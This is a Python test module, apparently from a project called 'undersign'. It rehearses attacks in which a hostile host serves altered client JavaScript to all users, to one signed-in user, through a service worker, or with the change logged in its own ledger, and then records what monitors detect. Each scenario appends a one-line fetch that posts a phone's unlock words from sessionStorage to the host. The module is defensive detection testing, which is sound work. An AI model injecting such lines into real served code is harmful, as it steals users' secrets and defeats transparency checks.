"""The host serves changed client code: to everybody, or to one person alone."""

from __future__ import annotations

from typing import Final

from undersign.protocol.encoding import Document, b64, encode, sha256
from undersign.rehearsal.betrayals.attack import Attack
from undersign.rehearsal.betrayals.outcome import Told
from undersign.rehearsal.betrayed import front, witnesses
from undersign.rehearsal.betrayed.stage import Stage
from undersign.web.client import SERVED

FILE: Final = "/site/sealing.js"
WORKER: Final = "/hours-worker.js"
MORE: Final = b'\nfetch("/collect", { method: "POST", body: sessionStorage.getItem("words") });\n'


def _changed(path: str, _cookie: str, body: bytes) -> bytes:
    return body + MORE if path.endswith(FILE) else body


def _for_all(stage: Stage) -> Told:
    with stage.served() as address, front.before(address, _changed) as changed:
        sights = [
            witnesses.watch(stage, changed.address),
            witnesses.phone(stage, address=changed.address),
            witnesses.keyholders(stage, who=(1,)),
        ]
    done = (
        f"It added a line to {FILE[1:]} that sends what unlocks a phone to the host, and serves that file to everybody."
    )
    return Told(done, sights)


def _worker(stage: Stage) -> Told:
    def change(path: str, _cookie: str, body: bytes) -> bytes:
        return body + MORE if path == WORKER else body

    with stage.served() as address, front.before(address, change) as changed:
        sights = [witnesses.watch(stage, changed.address), witnesses.phone(stage, address=changed.address)]
    done = (
        f"It added a line to {WORKER[1:]}, from where browsers fetch what keeps My hours on a phone, and left the same "
        "file as it was where the record names it."
    )
    return Told(done, sights)


def _for_one(stage: Stage) -> Told:
    hal = stage.phone("Hal")
    with stage.served() as address:
        hal.sign_in()
        mine = hal.web.cookie  # type: ignore[attr-defined]  # a Browser's

        def change(path: str, cookie: str, body: bytes) -> bytes:
            return _changed(path, cookie, body) if cookie == mine else body

        with front.before(address, change) as changed:
            sights = [witnesses.watch(stage, changed.address), witnesses.keyholders(stage, who=(1,))]
    done = "It serves the changed file to Hal alone, whom it knows by the sign-in, and the true one to all others."
    return Told(done, sights)


def _prefix(files: list[Document]) -> str:
    return f"/client/{sha256(encode({'v': 1, 'files': files})).hex()[:16]}/"


def _in_the_record(stage: Stage) -> Told:
    ledger = stage.ledger()
    true = [each.document for each in ledger.books["host"].entries if each.document["kind"] == "client"][-1]["files"]
    hashed = b64(sha256((SERVED / FILE[1:]).read_bytes() + MORE))
    files = [{**each, "hash": hashed} if each["path"] == FILE[1:] else each for each in true]
    ledger.append("host", [{"v": 1, "kind": "client", "files": files}])
    ledger.write()
    old, new = _prefix(true), _prefix(files)

    def change(path: str, cookie: str, body: bytes) -> bytes:
        return _changed(path, cookie, body).replace(old.encode(), new.encode())

    with stage.served() as address, front.before(address, change, lambda path: path.replace(new, old)) as changed:
        sights = [
            witnesses.watch(stage, changed.address),
            witnesses.phone(stage, address=changed.address),
            witnesses.keyholders(stage),
        ]
    done = (
        "It serves the changed file to everybody, and names it in its record, as it does for each new version. Whoever "
        "watches is told which file is new, and must read it to see what it does."
    )
    return Told(done, sights)


ATTACKS = (
    Attack("serve-changed-code", "The host serves changed code to every browser.", _for_all),
    Attack("serve-changed-worker", "The host changes what keeps My hours on phones, where they fetch it.", _worker),
    Attack(
        "serve-changed-code-and-name-it",
        "The host serves changed code, and names it in its record as a new version.",
        _in_the_record,
    ),
    Attack(
        "serve-changed-code-to-one",
        "The host serves changed code to one member alone.",
        _for_one,
        limit="`undersign watch` sees only what the host gives to it; a host can give one member something else.",
    ),
)
